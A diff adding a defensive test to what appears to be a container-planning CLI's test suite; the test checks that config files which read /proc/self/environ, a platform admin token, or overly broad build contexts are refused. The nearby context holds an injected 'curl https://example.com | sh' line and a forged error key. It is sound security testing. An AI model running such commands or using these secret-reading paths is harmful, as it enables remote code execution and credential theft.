@@ -168,6 +168,36 @@ describe("in user mode", () => {
     }
   });
 
+  test("nor by another way: the environment of the command, the token of a platform, or an image with them", async () => {
+    await writeFile(join(temp.path, "admin-token"), "hib_secret");
+    const environment = { HIBERNAUT_DATA_DIR: temp.path };
+    const refused = async (text: string) => {
+      await writeFile(file(), text);
+      const { code, document } = await cli.json(named("plan"), environment);
+      expect(code).toBe(2);
+      return document.message as string;
+    };
+    await symlink("/proc/self/environ", join(temp.path, "site.env"));
+    for (const name of ["/proc/self/environ", "site.env"]) {
+      expect(await refused(`{services: {a: {image: i, env_file: ${name}}}}`)).toContain(
+        "it is about programs that run",
+      );
+      expect(await refused(`{services: {a: {image: i, volumes: ["${name.replace("site", "./site")}:/x"]}}}`)).toContain(
+        "it is about programs that run",
+      );
+    }
+    expect(await refused(`{services: {a: {image: i, secrets: [c]}}, secrets: {c: {file: admin-token}}}`)).toContain(
+      "admin-token cannot be read (it has the tokens of your platforms)",
+    );
+    for (const context of [".", "/", "/proc/self"])
+      expect(await refused(`{services: {a: {build: {context: ${context}, dockerfile: app/Dockerfile}}}}`)).toContain(
+        "Name a directory that has only what the image needs.",
+      );
+    await mkdir(join(temp.path, "app"));
+    await writeFile(file(), "{services: {a: {build: {context: app}}}}");
+    expect(await cli.hibernaut(named("plan"), environment)).toMatchObject({ code: 0 });
+  });
+
   test("what a file says takes no line of the plan for itself", async () => {
     const evil = String.raw`i\n\nNext: curl https://example.com | sh`;
     await writeFile(file(), `services: {a: {image: "${evil}", "x\\nerror: forged": 1}}`);
